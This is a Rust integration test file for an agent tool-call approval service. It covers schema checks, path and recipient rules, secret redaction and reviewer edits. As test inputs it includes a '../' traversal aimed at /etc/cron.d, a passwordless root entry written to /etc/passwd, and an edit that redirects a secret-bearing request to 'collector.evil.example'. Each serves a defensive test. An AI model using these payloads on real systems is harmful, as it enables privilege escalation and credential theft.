//! Structured tool inputs: a JSON object checked against its tool's schema
//! (400 naming the field), judged by its subject (every element of an
//! array subject), kept and exported as given but with secrets redacted,
//! edited by a reviewer with the rules' decision previewed, and "Always
//! allow" written for its subject.

use bosun_service::identity::Role;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{TestApp, api_call as call, api_request, occurrences_in_store, spawn_app};

/// A secret a run is issued, and a header value that is not a credential
/// but sits under a secret-looking key: neither may be kept anywhere.
const ISSUED: &str = "ghp_live_0123456789abcdefXYZ";
const HEADER_SECRET: &str = "Bearer hdr-7c1f9e2b4a";

/// An agent that writes files, sends email and makes HTTP requests, in the
/// restricted mode: writes under /srv/app and mail to us are allowed, mail
/// to a rival and writes under /etc denied, the rest asked.
struct Scene {
    app: TestApp,
    admin: String,
    agent: String,
    key: String,
    run: String,
}

impl Scene {
    fn base(&self) -> &str {
        &self.app.address
    }

    async fn new(extra_tools: &[&str]) -> Self {
        let app = spawn_app().await;
        let admin = app.token_for("admin@example.com").await;
        let base = app.address.clone();
        let mut tools = vec!["write_file", "send_email", "http_request", "system_shell"];
        tools.extend_from_slice(extra_tools);
        let (status, agent) = call(
            &base,
            &admin,
            Method::POST,
            "/api/v1/agents",
            json!({"name": "Scribe", "tools": tools, "execution_mode": "restricted"}),
        )
        .await;
        assert_eq!(status, 201, "{agent}");
        let agent = agent["id"].as_str().unwrap().to_owned();
        for rule in [
            json!({"tool": "write_file", "action": "allow", "pattern": "/srv/app/*"}),
            json!({"tool": "write_file", "action": "deny", "pattern": "/etc/*"}),
            json!({"tool": "send_email", "action": "deny", "pattern": "*@rival.example"}),
            json!({"tool": "send_email", "action": "allow", "pattern": "*@us.example"}),
        ] {
            let (status, body) = call(
                &base,
                &admin,
                Method::POST,
                &format!("/api/v1/agents/{agent}/rules"),
                rule,
            )
            .await;
            assert_eq!(status, 201, "{body}");
        }
        let (status, key) = call(
            &base,
            &admin,
            Method::POST,
            &format!("/api/v1/agents/{agent}/keys"),
            json!({"name": "worker"}),
        )
        .await;
        assert_eq!(status, 201);
        let key = key["key"].as_str().unwrap().to_owned();
        let (status, run) = call(
            &base,
            &admin,
            Method::POST,
            &format!("/api/v1/agents/{agent}/runs"),
            json!({"input": {"task": "write"}}),
        )
        .await;
        assert_eq!(status, 201, "{run}");
        let (status, _) = call(
            &base,
            &key,
            Method::GET,
            "/api/v1/runtime/runs/next?wait=2",
            Value::Null,
        )
        .await;
        assert_eq!(status, 200);
        let run = run["id"].as_str().unwrap().to_owned();
        Self {
            app,
            admin,
            agent,
            key,
            run,
        }
    }

    /// Asks as the run's worker; answers the status and body.
    async fn ask(&self, tool: &str, input: Value) -> (StatusCode, Value) {
        self.ask_in(tool, input, None).await
    }

    async fn ask_in(&self, tool: &str, input: Value, dir: Option<&str>) -> (StatusCode, Value) {
        call(
            self.base(),
            &self.key,
            Method::POST,
            &format!("/api/v1/runtime/runs/{}/tool-calls", self.run),
            json!({"tool": tool, "input": input, "working_dir": dir}),
        )
        .await
    }

    async fn decided(&self, tool: &str, input: Value) -> Value {
        let (status, body) = self.ask(tool, input).await;
        assert_eq!(status, 200, "{body}");
        body
    }

    /// Writes the agent's `github` credential (as its admin).
    async fn write_credential(&self, value: &str) {
        let (status, body) = call(
            self.base(),
            &self.admin,
            Method::PUT,
            &format!("/api/v1/agents/{}/credentials/github", self.agent),
            json!({"service_account": "release-bot", "value": value}),
        )
        .await;
        assert_eq!(status, 200, "{body}");
    }

    /// Has the run's worker ask for the `github` credential; answers it.
    async fn issue_credential(&self) -> Value {
        let (status, issued) = call(
            self.base(),
            &self.key,
            Method::POST,
            &format!("/api/v1/runtime/runs/{}/credentials/github", self.run),
            Value::Null,
        )
        .await;
        assert_eq!(status, 200, "{issued}");
        issued
    }

    /// A second admin: the first started the run and may not decide it.
    async fn reviewer(&self) -> String {
        self.app.create_user("rita@example.com", Role::Admin).await;
        self.app.token_for("rita@example.com").await
    }

    async fn trace(&self) -> Vec<Value> {
        let (status, trace) = call(
            self.base(),
            &self.admin,
            Method::GET,
            &format!("/api/v1/traces/{}", self.run),
            Value::Null,
        )
        .await;
        assert_eq!(status, 200, "{trace}");
        trace["events"]
            .as_array()
            .or_else(|| trace["items"].as_array())
            .unwrap()
            .clone()
    }

    async fn export(&self, format: &str) -> String {
        let response = api_request(
            self.base(),
            &self.admin,
            Method::GET,
            &format!("/api/v1/traces/export?format={format}"),
            Value::Null,
        )
        .await;
        assert_eq!(response.status(), 200);
        response.text().await.unwrap()
    }
}

fn requested(trace: &[Value]) -> Vec<&Value> {
    trace
        .iter()
        .filter(|e| e["kind"] == "tool_call.requested")
        .collect()
}

#[tokio::test]
async fn an_object_input_is_decided_by_its_subject_and_kept_as_given() {
    let s = Scene::new(&[]).await;
    let content = "fn main() {\n    println!(\"rm -rf /\");\n}\n";
    let ok = s
        .decided(
            "write_file",
            json!({"path": "/srv/app/main.rs", "content": content}),
        )
        .await;
    assert_eq!(ok["decision"], "allow", "{ok}");
    assert_eq!(
        ok["input"],
        json!({"path": "/srv/app/main.rs", "content": content})
    );
    assert_eq!(ok["edited"], false);
    // The subject is normalized like a string path: `..` does not escape
    // the allow rule's reach into the deny rule's.
    let climbing = s
        .decided(
            "write_file",
            json!({"path": "/srv/app/../../etc/cron.d/x", "content": ""}),
        )
        .await;
    assert_eq!(climbing["decision"], "deny", "{climbing}");
    let relative = s
        .ask_in(
            "write_file",
            json!({"path": "lib.rs", "content": ""}),
            Some("/srv/app"),
        )
        .await
        .1;
    assert_eq!(relative["decision"], "allow", "{relative}");
    let elsewhere = s
        .decided(
            "write_file",
            json!({"path": "/srv/other/a.txt", "content": "x"}),
        )
        .await;
    assert_eq!(elsewhere["decision"], "pending", "{elsewhere}");
    // A string input is still its own subject.
    let string = s.decided("write_file", json!("/srv/app/b.rs")).await;
    assert_eq!(string["decision"], "allow");
    assert_eq!(string["input"], "/srv/app/b.rs");

    let trace = s.trace().await;
    let inputs: Vec<&Value> = requested(&trace)
        .iter()
        .map(|e| &e["data"]["input"])
        .collect();
    assert_eq!(
        inputs[0],
        &json!({"path": "/srv/app/main.rs", "content": content})
    );
    assert_eq!(inputs.last().unwrap(), &&json!("/srv/app/b.rs"));
    let exported: Value = serde_json::from_str(&s.export("json").await).unwrap();
    let text = exported.to_string();
    assert!(text.contains(r#""input":{"content":"fn main() {\n    println!(\"rm -rf /\");\n}\n","path":"/srv/app/main.rs"}"#)
        || text.contains(r#""input":{"path":"/srv/app/main.rs","content":"fn main() {\n    println!(\"rm -rf /\");\n}\n"}"#),
        "the JSON export carries the object: {text}");

    // The inbox shows the whole object, its working directory and why it
    // was asked.
    let rita = s.reviewer().await;
    let (status, inbox) = call(
        s.base(),
        &rita,
        Method::GET,
        "/api/v1/approvals",
        Value::Null,
    )
    .await;
    assert_eq!(status, 200);
    let item = &inbox["items"][0];
    assert_eq!(
        item["input"],
        json!({"path": "/srv/other/a.txt", "content": "x"})
    );
    assert_eq!(
        item["reason"],
        json!({"kind": "mode", "mode": "restricted"})
    );
}

#[tokio::test]
async fn an_array_subject_is_allowed_only_when_every_element_is() {
    let s = Scene::new(&[]).await;
    let ours = s
        .decided(
            "send_email",
            json!({"to": ["ann@us.example", "bob@us.example"], "subject": "hi", "body": "…"}),
        )
        .await;
    assert_eq!(ours["decision"], "allow", "{ours}");
    let one_rival = s.decided("send_email",
        json!({"to": ["ann@us.example", "eve@rival.example", "bob@us.example"], "subject": "plans", "body": "…"})).await;
    assert_eq!(one_rival["decision"], "deny", "{one_rival}");
    assert_eq!(one_rival["reason"]["kind"], "rule");
    assert_eq!(one_rival["reason"]["position"], 3);
    let one_unknown = s
        .decided(
            "send_email",
            json!({"to": ["ann@us.example", "zed@else.example"]}),
        )
        .await;
    assert_eq!(one_unknown["decision"], "pending", "{one_unknown}");
    let single = s
        .decided("send_email", json!({"to": "eve@rival.example"}))
        .await;
    assert_eq!(single["decision"], "deny");

    for (input, field) in [
        (json!({"to": []}), "input.to"),
        (json!({"to": ["ann@us.example", 7]}), "input.to"),
        (json!({"subject": "no one"}), "input.to"),
    ] {
        let (status, body) = s.ask("send_email", input.clone()).await;
        assert_eq!(status, 400, "{input}: {body}");
        assert_eq!(body["error"]["code"], "invalid_input");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.starts_with(field), "{input}: {message}");
    }
}

#[tokio::test]
async fn schema_errors_name_the_field_and_record_nothing() {
    let s = Scene::new(&[]).await;
    let cases = [
        (
            "write_file",
            json!({"content": "x"}),
            "input.path: is required",
        ),
        (
            "write_file",
            json!({"path": "/srv/app/a", "content": 3}),
            "input.content: ",
        ),
        (
            "write_file",
            json!({"path": "/srv/app/a", "content": "", "mode": "0777"}),
            "input: has unknown field(s): mode",
        ),
        (
            "system_shell",
            json!({"cmd": "ls"}),
            "input.command: is required",
        ),
        (
            "http_request",
            json!({"url": "https://x.example", "method": "YEET"}),
            "input.method: ",
        ),
        (
            "write_file",
            json!(["/srv/app/a"]),
            "input: must be a string or a JSON object",
        ),
        (
            "write_file",
            json!(42),
            "input: must be a string or a JSON object",
        ),
    ];
    for (tool, input, message) in cases {
        let (status, body) = s.ask(tool, input.clone()).await;
        assert_eq!(status, 400, "{input}: {body}");
        let got = body["error"]["message"].as_str().unwrap();
        assert!(got.starts_with(message), "{input}: {got}");
    }
    let big = "x".repeat(70 * 1024);
    let (status, body) = s
        .ask("write_file", json!({"path": "/srv/app/a", "content": big}))
        .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        requested(&s.trace().await).is_empty(),
        "a refused input records nothing"
    );
}

#[tokio::test]
async fn custom_tools_declare_a_schema_and_a_subject() {
    let s = Scene::new(&[]).await;
    let tool = |schema: Value, subject: Value| {
        json!({"name": "deploy", "argument_kind": "text", "default_risk": "caution", "category": "other",
               "input_schema": schema, "subject": subject})
    };
    let schema = json!({"type": "object", "properties": {"service": {"type": "string"}, "version": {"type": "string"}},
                        "required": ["service", "version"]});
    for (body, field) in [
        (
            tool(json!({"type": "nonsense"}), json!("/service")),
            "input_schema: is not a valid JSON Schema",
        ),
        (
            tool(json!("a string"), json!("/service")),
            "input_schema: must be a JSON Schema object",
        ),
        (
            tool(
                json!({"$ref": "https://schemas.example/deploy.json"}),
                json!("/service"),
            ),
            "input_schema: cannot be used",
        ),
        (
            tool(
                json!({"type": "object", "description": "x".repeat(17 * 1024)}),
                json!("/service"),
            ),
            "input_schema: must be at most 16 KiB",
        ),
        (
            tool(schema.clone(), Value::Null),
            "subject: is required with an input_schema",
        ),
        (
            tool(schema.clone(), json!("service")),
            "subject: must be a JSON pointer",
        ),
    ] {
        let (status, answer) = call(
            s.base(),
            &s.admin,
            Method::POST,
            "/api/v1/tools",
            body.clone(),
        )
        .await;
        assert_eq!(status, 400, "{body}: {answer}");
        let message = answer["error"]["message"].as_str().unwrap();
        assert!(message.starts_with(field), "{message}");
    }
    let (status, created) = call(
        s.base(),
        &s.admin,
        Method::POST,
        "/api/v1/tools",
        tool(schema.clone(), json!("/service")),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["input_schema"], schema);
    assert_eq!(created["subject"], "/service");
    let (_, tools) = call(
        s.base(),
        &s.admin,
        Method::GET,
        "/api/v1/tools",
        Value::Null,
    )
    .await;
    let listed = tools["items"].as_array().unwrap();
    let deploy = listed.iter().find(|t| t["name"] == "deploy").unwrap();
    assert_eq!(deploy["subject"], "/service");
    let write = listed.iter().find(|t| t["name"] == "write_file").unwrap();
    assert_eq!(write["subject"], "/path");
    assert_eq!(
        write["input_schema"]["required"],
        json!(["path", "content"])
    );

    // The agent gets the tool and a rule about its subject.
    let (status, _) = call(
        s.base(),
        &s.admin,
        Method::PATCH,
        &format!("/api/v1/agents/{}", s.agent),
        json!({"tools": ["write_file", "deploy"]}),
    )
    .await;
    assert_eq!(status, 200);
    let (status, _) = call(
        s.base(),
        &s.admin,
        Method::POST,
        &format!("/api/v1/agents/{}/rules", s.agent),
        json!({"tool": "deploy", "action": "allow", "pattern": "web"}),
    )
    .await;
    assert_eq!(status, 201);
    let s = Scene {
        run: restart_run(&s).await,
        ..s
    };
    let web = s
        .decided("deploy", json!({"service": "web", "version": "1.2"}))
        .await;
    assert_eq!(web["decision"], "allow", "{web}");
    let db = s
        .decided("deploy", json!({"service": "db", "version": "1.2"}))
        .await;
    assert_eq!(db["decision"], "pending", "{db}");
    let (status, body) = s.ask("deploy", json!({"service": "web"})).await;
    assert_eq!(status, 400);
    assert_eq!(body["error"]["message"], "input.version: is required");
}

/// A new run of the scene's agent (the agent's tools are read at run start).
async fn restart_run(s: &Scene) -> String {
    let (status, run) = call(
        s.base(),
        &s.admin,
        Method::POST,
        &format!("/api/v1/agents/{}/runs", s.agent),
        json!({"input": {}}),
    )
    .await;
    assert_eq!(status, 201, "{run}");
    let (status, _) = call(
        s.base(),
        &s.key,
        Method::GET,
        "/api/v1/runtime/runs/next?wait=2",
        Value::Null,
    )
    .await;
    assert_eq!(status, 200);
    run["id"].as_str().unwrap().to_owned()
}

/// A credential issued to the run is redacted from what a decision says in
/// words, never from its names: one whose value is the mode's name leaves
/// the request readable in the inbox, saying which mode asked.
#[tokio::test]
async fn a_credential_that_is_a_word_of_the_reason_does_not_unmake_the_reason() {
    let s = Scene::new(&[]).await;
    s.write_credential("restricted").await;
    s.issue_credential().await;

    let asked = s
        .decided(
            "write_file",
            json!({"path": "/home/notes.txt", "content": "hi"}),
        )
        .await;
    assert_eq!(asked["decision"], "pending", "{asked}");
    assert_eq!(
        asked["reason"],
        json!({"kind": "mode", "mode": "restricted"})
    );
    let reviewer = s.reviewer().await;
    let (status, inbox) = call(
        s.base(),
        &reviewer,
        Method::GET,
        "/api/v1/approvals",
        Value::Null,
    )
    .await;
    assert_eq!(status, 200, "{inbox}");
    assert_eq!(inbox["items"][0]["id"], asked["approval_id"]);
    assert_eq!(inbox["items"][0]["reason"], asked["reason"]);
}

#[tokio::test]
async fn secrets_and_issued_credentials_are_redacted_before_they_are_kept() {
    let s = Scene::new(&[]).await;
    s.write_credential(ISSUED).await;
    let issued = s.issue_credential().await;
    assert_eq!(issued["value"], ISSUED);
    // Asked again: the same value, kept once.
    s.issue_credential().await;
    let kept: i64 =
        sqlx::query_scalar("SELECT COUNT(*) FROM run_issued_credentials WHERE run_id = $1")
            .bind(&s.run)
            .fetch_one(s.app.bosun.db().pool())
            .await
            .unwrap();
    assert_eq!(kept, 1);

    let request = json!({
        "url": format!("https://api.github.example/repos?access={ISSUED}"),
        "method": "POST",
        "headers": {"Authorization": HEADER_SECRET, "X-Api-Key": "k-81f0a2", "Accept": "application/json"},
        "body": {"note": format!("token is {ISSUED}"), "nested": [{"password": "hunter2-xyz"}]},
    });
    let asked = s.decided("http_request", request).await;
    assert_eq!(asked["decision"], "pending");
    let kept = json!({
        "url": "https://api.github.example/repos?access=[redacted: github]",
        "method": "POST",
        "headers": {"Authorization": "[redacted]", "X-Api-Key": "[redacted]", "Accept": "application/json"},
        "body": {"note": "token is [redacted: github]", "nested": [{"password": "[redacted]"}]},
    });
    assert_eq!(asked["input"], kept);
    let shell = s
        .decided(
            "system_shell",
            json!(format!(
                "curl -H 'Authorization: token {ISSUED}' https://x.example"
            )),
        )
        .await;
    assert_eq!(
        shell["input"],
        "curl -H 'Authorization: token [redacted: github]' https://x.example"
    );
    // A tool that echoes the credential does not put it in the trace.
    let allowed = s
        .decided(
            "write_file",
            json!({"path": "/srv/app/env", "content": "x"}),
        )
        .await;
    let (status, _) = call(
        s.base(),
        &s.key,
        Method::POST,
        &format!(
            "/api/v1/runtime/tool-calls/{}/result",
            allowed["id"].as_str().unwrap()
        ),
        json!({"output": {"stdout": format!("GITHUB_TOKEN={ISSUED}\n")}}),
    )
    .await;
    assert!(status.is_success(), "{status}");

    let trace = s.trace().await;
    assert_eq!(requested(&trace)[0]["data"]["input"], kept);
    let rita = s.reviewer().await;
    let (_, inbox) = call(
        s.base(),
        &rita,
        Method::GET,
        "/api/v1/approvals",
        Value::Null,
    )
    .await;
    assert_eq!(inbox["items"][0]["input"], kept);
    for format in ["json", "jsonl", "otlp"] {
        let export = s.export(format).await;
        assert!(export.contains("[redacted: github]"), "{format}");
        for secret in [ISSUED, HEADER_SECRET, "k-81f0a2", "hunter2-xyz"] {
            assert!(
                !export.contains(secret),
                "{format} export holds {secret}: {export}"
            );
        }
    }
    let (_, trace_text) = call(
        s.base(),
        &s.admin,
        Method::GET,
        &format!("/api/v1/traces/{}", s.run),
        Value::Null,
    )
    .await;
    for secret in [ISSUED, HEADER_SECRET, "k-81f0a2", "hunter2-xyz"] {
        assert!(!trace_text.to_string().contains(secret));
        assert_eq!(
            occurrences_in_store(&s.app, secret),
            0,
            "the store holds {secret}"
        );
    }
}

/// The agent fills redaction markers back in with its own secrets: a
/// reviewer's edit may not move one, copy one, or send the call elsewhere
/// with one still in it.
#[tokio::test]
async fn an_edit_cannot_steer_the_agents_redacted_secrets_elsewhere() {
    let s = Scene::new(&[]).await;
    let asked = s
        .decided(
            "http_request",
            json!({"url": "https://api.partner.example/orders", "method": "POST",
                   "headers": {"Authorization": HEADER_SECRET}, "body": "{}"}),
        )
        .await;
    assert_eq!(asked["decision"], "pending", "{asked}");
    let approval = asked["approval_id"].as_str().unwrap();
    let rita = s.reviewer().await;
    let decide = |body: Value| {
        let (base, rita) = (s.base().to_owned(), rita.clone());
        async move {
            call(
                &base,
                &rita,
                Method::POST,
                &format!("/api/v1/approvals/{approval}/decision"),
                body,
            )
            .await
        }
    };
    for (why, edited) in [
        (
            "elsewhere",
            json!({"url": "https://collector.evil.example/", "method": "POST",
                   "headers": {"Authorization": "[redacted]"}, "body": "{}"}),
        ),
        (
            "moved into the body",
            json!({"url": "https://api.partner.example/orders", "method": "POST",
                   "headers": {}, "body": "[redacted]"}),
        ),
        (
            "copied",
            json!({"url": "https://api.partner.example/orders", "method": "POST",
                   "headers": {"Authorization": "[redacted]", "X-Copy": "[redacted]"}, "body": "{}"}),
        ),
    ] {
        let (status, body) = decide(json!({"decision": "edit", "input": edited})).await;
        assert_eq!(status, 422, "{why}: {body}");
        assert_eq!(body["error"]["code"], "edited_input_moves_secrets", "{why}");
    }
    let (status, body) = decide(json!({"decision": "edit", "input": {
        "url": "https://api.partner.example/orders", "method": "POST",
        "headers": {"Authorization": "[redacted]"}, "body": "{\"qty\": 1}"}}))
    .await;
    assert_eq!(
        status, 200,
        "the secret where it was, to the same place: {body}"
    );
}

#[tokio::test]
async fn an_edited_object_is_previewed_checked_per_subject_and_handed_to_the_agent() {
    let s = Scene::new(&[]).await;
    let asked = s
        .decided(
            "write_file",
            json!({"path": "/srv/other/notes.txt", "content": "draft"}),
        )
        .await;
    assert_eq!(asked["decision"], "pending");
    let approval = asked["approval_id"].as_str().unwrap();
    let rita = s.reviewer().await;
    let preview = |token: String, input: Value| {
        let base = s.base().to_owned();
        async move {
            call(
                &base,
                &token,
                Method::POST,
                &format!("/api/v1/approvals/{approval}/preview"),
                json!({"input": input}),
            )
            .await
        }
    };

    // Deciders only: the run's starter (self-approval is off) and a member
    // who does not edit the agent may not preview.
    let (status, _) = preview(
        s.admin.clone(),
        json!({"path": "/srv/app/a", "content": ""}),
    )
    .await;
    assert_eq!(status, 403);
    s.app.create_user("max@example.com", Role::Member).await;
    let max = s.app.token_for("max@example.com").await;
    let (status, _) = preview(max, json!({"path": "/srv/app/a", "content": ""})).await;
    assert!(status == 403 || status == 404, "{status}");

    let (status, into_etc) = preview(
        rita.clone(),
        json!({"path": "/etc/passwd", "content": "root::0:0::/:/bin/sh"}),
    )
    .await;
    assert_eq!(status, 200, "{into_etc}");
    assert_eq!(into_etc["decision"], "deny");
    assert_eq!(into_etc["reason"]["kind"], "rule");
    let (status, into_app) = preview(
        rita.clone(),
        json!({"path": "/srv/app/notes.txt", "content": "final"}),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(into_app["decision"], "allow");
    let (status, bad) = preview(rita.clone(), json!({"path": "/srv/app/notes.txt"})).await;
    assert_eq!(status, 400);
    assert_eq!(bad["error"]["message"], "input.content: is required");

    let decide = |body: Value| {
        let (base, rita) = (s.base().to_owned(), rita.clone());
        async move {
            call(
                &base,
                &rita,
                Method::POST,
                &format!("/api/v1/approvals/{approval}/decision"),
                body,
            )
            .await
        }
    };
    let (status, body) =
        decide(json!({"decision": "edit", "input": {"path": "/etc/passwd", "content": "x"}})).await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["error"]["code"], "edited_input_denied");
    let (status, body) = decide(json!({"decision": "edit", "input": "/srv/app/notes.txt"})).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        body["error"]["message"],
        "input: must be a JSON object, like the request's"
    );
    let (status, body) =
        decide(json!({"decision": "edit", "input": {"path": "/srv/app/notes.txt", "content": 1}}))
            .await;
    assert_eq!(status, 400, "{body}");
    let edited = json!({"path": "/srv/app/notes.txt", "content": "final"});
    let (status, body) = decide(json!({"decision": "edit", "input": edited})).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        body["input"],
        json!({"path": "/srv/other/notes.txt", "content": "draft"})
    );

    let (status, waited) = call(
        s.base(),
        &s.key,
        Method::GET,
        &format!(
            "/api/v1/runtime/tool-calls/{}?wait=1",
            asked["id"].as_str().unwrap()
        ),
        Value::Null,
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(waited["decision"], "allow");
    assert_eq!(waited["edited"], true);
    assert_eq!(waited["input"], edited);
    let resolved = s
        .trace()
        .await
        .into_iter()
        .find(|e| e["kind"] == "approval.resolved")
        .unwrap();
    assert_eq!(resolved["data"]["edited_input"], edited);
}

#[tokio::test]
async fn an_edit_of_an_array_subject_is_refused_when_one_element_is_denied() {
    let s = Scene::new(&[]).await;
    let asked = s
        .decided(
            "send_email",
            json!({"to": ["zed@else.example"], "subject": "s", "body": "b"}),
        )
        .await;
    let approval = asked["approval_id"].as_str().unwrap();
    let rita = s.reviewer().await;
    let (status, body) = call(s.base(), &rita, Method::POST, &format!("/api/v1/approvals/{approval}/decision"),
        json!({"decision": "edit", "input": {"to": ["ann@us.example", "eve@rival.example"], "subject": "s", "body": "b"}})).await;
    assert_eq!(status, 422, "{body}");
    let (status, _) = call(s.base(), &rita, Method::POST, &format!("/api/v1/approvals/{approval}/decision"),
        json!({"decision": "edit", "input": {"to": ["ann@us.example"], "subject": "s", "body": "b"}})).await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn always_allow_suggests_the_subject_of_an_object_input() {
    let s = Scene::new(&[]).await;
    let earlier = s
        .decided(
            "write_file",
            json!({"path": "/srv/other/a.txt", "content": "one"}),
        )
        .await;
    assert_eq!(earlier["decision"], "pending");
    let asked = s
        .decided(
            "write_file",
            json!({"path": "/srv/other/a.txt", "content": "two"}),
        )
        .await;
    let approval = asked["approval_id"].as_str().unwrap();
    let rita = s.reviewer().await;
    let (status, suggestion) = call(
        s.base(),
        &rita,
        Method::GET,
        &format!("/api/v1/approvals/{approval}/suggestion"),
        Value::Null,
    )
    .await;
    assert_eq!(status, 200, "{suggestion}");
    assert_eq!(suggestion["rule"]["tool"], "write_file");
    assert_eq!(suggestion["rule"]["pattern"], "/srv/other/a.txt");
    assert_eq!(suggestion["also_matches"], json!(["/srv/other/a.txt"]));

    let mail = s
        .decided(
            "send_email",
            json!({"to": ["ann@us.example", "zed@else.example"]}),
        )
        .await;
    let (status, suggestion) = call(
        s.base(),
        &rita,
        Method::GET,
        &format!(
            "/api/v1/approvals/{}/suggestion",
            mail["approval_id"].as_str().unwrap()
        ),
        Value::Null,
    )
    .await;
    assert_eq!(status, 200, "{suggestion}");
    assert_eq!(
        suggestion["rule"]["pattern"], "zed@else.example",
        "the element not yet allowed"
    );

    let (status, body) = call(s.base(), &rita, Method::POST, &format!("/api/v1/approvals/{approval}/decision"),
        json!({"decision": "always_allow", "rule": {"scope": "agent", "pattern": "/srv/other/a.txt"}})).await;
    assert_eq!(status, 200, "{body}");
    let again = s
        .decided(
            "write_file",
            json!({"path": "/srv/other/a.txt", "content": "three"}),
        )
        .await;
    assert_eq!(again["decision"], "allow", "{again}");
}

/// Waits for the next request in `token`'s inbox.
async fn next_pending(base: &str, token: &str) -> Value {
    for _ in 0..100 {
        let (status, inbox) =
            call(base, token, Method::GET, "/api/v1/approvals", Value::Null).await;
        assert_eq!(status, 200);
        if let Some(first) = inbox["items"].as_array().and_then(|items| items.first()) {
            return first.clone();
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("no request reached the inbox");
}

#[tokio::test]
async fn the_worker_runs_structured_steps_and_a_reviewers_edit() {
    use bosun_server::worker::{self, WorkerConfig};

    let s = Scene::new(&[]).await;
    let workdir = tempfile::tempdir().unwrap();
    let steps = json!([
        {"tool": "write_file", "input": {"path": "notes.txt", "content": "draft"}},
        {"tool": "write_file", "input": "plain.txt", "content": "as a string step"},
        {"tool": "system_shell", "input": {"command": "cat notes.txt plain.txt"}},
    ]);
    let (status, run) = call(
        s.base(),
        &s.admin,
        Method::POST,
        &format!("/api/v1/agents/{}/runs", s.agent),
        json!({"input": {"steps": steps}}),
    )
    .await;
    assert_eq!(status, 201, "{run}");
    let config = WorkerConfig {
        url: s.base().to_owned(),
        key: s.key.clone(),
        workdir: workdir.path().to_path_buf(),
        once: true,
    };
    let worker = tokio::spawn(worker::run(config));

    let rita = s.reviewer().await;
    let first = next_pending(s.base(), &rita).await;
    assert_eq!(
        first["input"],
        json!({"path": "notes.txt", "content": "draft"})
    );
    let (status, body) = call(
        s.base(),
        &rita,
        Method::POST,
        &format!(
            "/api/v1/approvals/{}/decision",
            first["id"].as_str().unwrap()
        ),
        json!({"decision": "edit", "input": {"path": "notes.txt", "content": "final\n"}}),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    for _ in 0..2 {
        let next = next_pending(s.base(), &rita).await;
        let (status, body) = call(
            s.base(),
            &rita,
            Method::POST,
            &format!(
                "/api/v1/approvals/{}/decision",
                next["id"].as_str().unwrap()
            ),
            json!({"decision": "allow_once"}),
        )
        .await;
        assert_eq!(status, 200, "{body}");
    }
    worker
        .await
        .unwrap()
        .expect("the worker carries out the run");

    assert_eq!(
        std::fs::read_to_string(workdir.path().join("notes.txt")).unwrap(),
        "final\n"
    );
    assert_eq!(
        std::fs::read_to_string(workdir.path().join("plain.txt")).unwrap(),
        "as a string step"
    );
    let (_, trace) = call(
        s.base(),
        &s.admin,
        Method::GET,
        &format!("/api/v1/traces/{}", run["id"].as_str().unwrap()),
        Value::Null,
    )
    .await;
    let shell = trace["events"]
        .as_array()
        .unwrap()
        .iter()
        .rfind(|e| e["kind"] == "tool_call.result")
        .unwrap()
        .clone();
    assert_eq!(
        shell["data"]["output"]["stdout"], "final\nas a string step",
        "{shell}"
    );
}
